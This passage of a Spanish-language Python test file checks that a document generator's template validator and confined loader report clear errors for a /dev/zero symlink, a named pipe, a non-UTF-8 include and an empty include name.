        generar_docx(leer_caso(MUESTRA, plantillas_extra=[plantillas]))
    assert f"de 0 a {MAXIMO_DIAS_HABILES}" in str(info.value)


def test_validar_una_carpeta_con_un_dispositivo_una_tuberia_y_otra_codificacion(tmp_path):
    """La auditoría 9: «plantillas validar» (lo que se corre sobre una carpeta ajena) leía los
    bloques sin confinar: un enlace a /dev/zero agotaba la memoria y una tubería lo colgaba.
    Un include de un archivo que no es UTF-8 daba «<frozen codecs>», y uno vacío decía que era
    un enlace que sale de la carpeta."""
    import os
    import subprocess
    import sys

    carpeta = tmp_path / "ajena"
    textos = carpeta / "instituciones" / "generica" / "textos"
    shutil.copytree(RAIZ / "plantillas" / "instituciones" / "generica", carpeta / "instituciones" / "generica")
    textos.mkdir(parents=True, exist_ok=True)
    os.symlink("/dev/zero", textos / "cero.j2")
    os.mkfifo(textos / "tuberia.j2")
    (textos / "latin.j2").write_bytes("Resolución".encode("latin-1"))
    hecho = subprocess.run([sys.executable, "-m", "generador", "plantillas", "validar", str(carpeta)],
                           capture_output=True, text=True, cwd=RAIZ, timeout=120)
    assert hecho.returncode == 2 and "Traceback" not in hecho.stderr, hecho.stderr
    salida = hecho.stdout + hecho.stderr
    assert "cero.j2" in salida and "tuberia.j2" in salida and "no está en UTF-8" in salida


def test_un_include_vacio_o_de_otra_codificacion_dice_lo_que_es(tmp_path):
    from generador.plantillas.cargador import CargadorConfinado
    from generador.plantillas.limites import PlantillaNoPermitida

    (tmp_path / "latin.j2").write_bytes("Resolución".encode("latin-1"))
    cargador = CargadorConfinado([tmp_path])
    with pytest.raises(PlantillaNoPermitida, match="nombre vacío"):
        cargador.get_source(None, "")
    with pytest.raises(PlantillaNoPermitida, match="no está en UTF-8"):
        cargador.get_source(None, "latin.j2")
